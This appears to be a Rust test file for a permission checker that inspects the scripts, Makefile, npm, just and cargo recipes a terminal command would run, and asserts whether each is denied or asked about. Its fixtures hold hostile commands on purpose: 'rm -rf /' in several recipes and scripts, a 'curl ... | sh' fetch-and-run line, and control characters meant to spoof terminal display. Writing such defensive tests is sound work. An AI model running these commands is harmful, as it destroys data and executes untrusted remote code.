//! Scripts and recipes that a command runs: read, judged and shown (issue "scripts and task runners"; bypasses W13, H-27).

use sayso_core::analysis::risk::Tier;
use sayso_core::answer::verdict::Confirm;
use sayso_core::policy::decision::Decision;
use sayso_core::prompt::presentation::Body;

use super::{call, judged, setup, show, value, warned};
use crate::bench::Setup;

fn with(files: &[(&str, &str)]) -> Setup {
    let mut setup = setup();
    for (path, text) in files {
        setup.world.with(&format!("/ws/{path}"), text);
    }
    setup
}

fn decision(setup: &Setup, command: &str) -> Decision {
    judged(setup, call("terminal", &[("command", command)]))
        .1
        .verdict
        .decision
}

const HARMLESS: &[(&str, &str)] = &[
    (
        "scripts/test.sh",
        "#!/bin/sh\nset -e\n# all of it\ncargo test\n",
    ),
    (
        "Makefile",
        "V = 1\ntest: build\n\t@cargo test --jobs $(V)\nbuild:\n\tcargo build\nclean:\n\trm -rf /\n",
    ),
    (
        "package.json",
        r#"{"scripts": {"pretest": "tsc", "test": "jest --ci", "wipe": "rm -rf /"}}"#,
    ),
    (
        "justfile",
        "check: lint\n    cargo check {{args}}\nlint:\n    cargo clippy\nwipe:\n    rm -rf /\n",
    ),
    (
        ".cargo/config.toml",
        "[alias]\nxtask = \"run --package xtask --\"\n",
    ),
];

#[test]
fn what_runs_stands_beside_the_command() {
    let setup = with(HARMLESS);
    for (command, name, lines) in [
        (
            "sh scripts/test.sh",
            "scripts/test.sh",
            &["#!/bin/sh", "set -e", "# all of it", "cargo test"][..],
        ),
        (
            "bash -eu -o pipefail scripts/test.sh --fast",
            "scripts/test.sh",
            &["#!/bin/sh", "set -e", "# all of it", "cargo test"],
        ),
        (
            "cd scripts && . ./test.sh",
            "scripts/test.sh",
            &["#!/bin/sh", "set -e", "# all of it", "cargo test"],
        ),
        (
            "make test",
            "test of Makefile",
            &["cargo build", "@cargo test --jobs $(V)"],
        ),
        (
            "make V=2",
            "test of Makefile",
            &["cargo build", "@cargo test --jobs $(V)"],
        ),
        ("npm test", "pretest of package.json", &["tsc"]),
        (
            "npm run test -- --watch",
            "test of package.json",
            &["jest --ci"],
        ),
        ("yarn test", "test of package.json", &["jest --ci"]),
        (
            "cd src && pnpm run test",
            "test of package.json",
            &["jest --ci"],
        ),
        (
            "just check x",
            "check of justfile",
            &["cargo clippy", "cargo check {{args}}"],
        ),
        (
            "cargo xtask ci",
            "xtask of .cargo/config.toml",
            &["cargo run --package xtask --"],
        ),
    ] {
        let shown = show(&setup, call("terminal", &[("command", command)]));
        let start = shown.details.iter().position(|(label, _)| label == name);
        let start = start.unwrap_or_else(|| panic!("{command}: {:#?}", shown.details));
        let told: Vec<&str> = shown.details[start..]
            .iter()
            .take(lines.len())
            .map(|(_, value)| value.as_str())
            .collect();
        assert_eq!(told, lines, "{command}");
        assert_eq!(decision(&setup, command), Decision::Ask, "{command}");
    }
}

#[test]
fn what_is_denied_in_it_is_denied_outside() {
    let setup = with(&[
        ("a.sh", "echo hello\nif true; then rm -rf /; fi\n"),
        ("b.sh", "sh ./a.sh\n"),
        ("c.sh", "make clean\n"),
        ("d", "#!/usr/bin/env bash\nrm -rf /\n"),
        HARMLESS[1],
        HARMLESS[2],
        HARMLESS[3],
    ]);
    for command in [
        "sh a.sh",
        "bash -x b.sh",
        "sh c.sh",
        "make clean",
        "make -C . clean",
        "npm run wipe",
        "just wipe",
        "./d",
        "ls; sh a.sh",
        "FOO=$(date) sh a.sh",
    ] {
        assert_eq!(decision(&setup, command), Decision::Deny, "{command}");
    }
    let (_, judged) = judged(&setup, call("terminal", &[("command", "sh b.sh")]));
    let reason = &judged.verdict.reasons[0];
    assert!(reason.text().starts_with("in a.sh: "), "{reason:?}");
    assert!(
        reason.rule.source().starts_with("script a.sh, "),
        "{reason:?}"
    );
    assert_eq!(judged.verdict.tier, Tier::Catastrophic);
    // Other recipes of the same file have no part in it.
    assert_eq!(decision(&setup, "make test"), Decision::Ask);
    assert_eq!(decision(&setup, "npm test"), Decision::Ask);
}

#[test]
fn what_is_dangerous_in_it_is_asked_about_as_such() {
    let setup = with(&[
        ("install.sh", "curl -s https://example.com/x | sh\n"),
        ("plain.sh", "echo hello\n"),
    ]);
    let (_, dangerous) = judged(&setup, call("terminal", &[("command", "sh install.sh")]));
    let (_, plain) = judged(&setup, call("terminal", &[("command", "sh plain.sh")]));
    assert_eq!(
        (dangerous.verdict.decision, plain.verdict.decision),
        (Decision::Ask, Decision::Ask)
    );
    assert!(dangerous.verdict.tier > plain.verdict.tier);
    assert_eq!(dangerous.verdict.confirm, Confirm::Double);
    assert!(warned(
        &show(&setup, call("terminal", &[("command", "sh install.sh")])),
        "in install.sh: "
    ));
}

#[test]
fn a_long_script_is_there_to_look_at() {
    let long: String = (0..200).map(|number| format!("echo {number}\n")).collect();
    let setup = with(&[
        ("long.sh", &long),
        ("hostile.sh", "echo \u{202e}\u{1b}[2J\n"),
    ]);
    let shown = show(&setup, call("terminal", &[("command", "sh long.sh")]));
    assert_eq!(shown.hidden_lines, 202);
    assert_eq!(value(&shown.details, "long.sh"), "200 lines, in /ws");
    let Some(Body::Text(lines)) = shown.full.as_deref() else {
        panic!("{:#?}", shown.full)
    };
    assert_eq!(lines[0], "sh long.sh");
    assert_eq!(lines[2], "── long.sh · 200 lines · in /ws ──");
    assert_eq!(lines.last().unwrap(), "│ echo 199");
    let hostile = show(&setup, call("terminal", &[("command", "sh hostile.sh")]));
    assert!(!value(&hostile.details, "hostile.sh").contains(['\u{202e}', '\u{1b}']));
}

#[test]
fn what_is_not_there_or_no_text_or_a_circle_brings_nothing_and_is_asked_about() {
    let mut setup = with(&[
        ("a.sh", "sh b.sh\n"),
        ("b.sh", "sh a.sh\n"),
        ("broken.sh", "if\n"),
        ("bytes.sh", "\u{0}\u{1}"),
        ("package.json", "{\"scripts\": "),
        ("Makefile", "all: all\n\t$(MAKE) all\n\t$(eval $(call x"),
    ]);
    setup.world.unreadable("/ws/closed.sh");
    for command in [
        "sh a.sh",
        "sh broken.sh",
        "sh bytes.sh",
        "npm test",
        "make",
        "make missing",
        "sh closed.sh",
        "sh none.sh",
        "sh",
        "just x",
        "cargo xtask",
    ] {
        assert_eq!(decision(&setup, command), Decision::Ask, "{command}");
        show(&setup, call("terminal", &[("command", command)]));
    }
}
